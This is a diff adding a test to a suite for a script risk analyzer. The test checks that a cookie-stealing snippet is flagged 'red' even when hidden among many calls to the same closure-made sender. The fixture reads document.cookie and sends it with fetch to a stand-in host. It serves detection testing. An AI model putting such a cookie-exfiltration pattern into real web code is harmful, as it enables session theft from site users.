@@ -36,3 +36,13 @@ describe.each(AROUND)("functions that share a variable of %s", (_title, around) 
 		expect(analyzeScript({ code: code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
 	});
 });
+
+test("functions made by one function are told apart, however often their code has run before", () => {
+	const others = Array.from({ length: 20 }, (_, index) => `sender("/n${index}?")(text);`).join("\n");
+	const code = `const sender = (to) => (text) => fetch(to + text);
+let text = document.cookie;
+${others}
+sender("https://c.test/?")(text);`;
+	expect(analyzeScript({ code }).risk_level).toBe("red");
+	expect(analyzeScript({ code: code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
+});
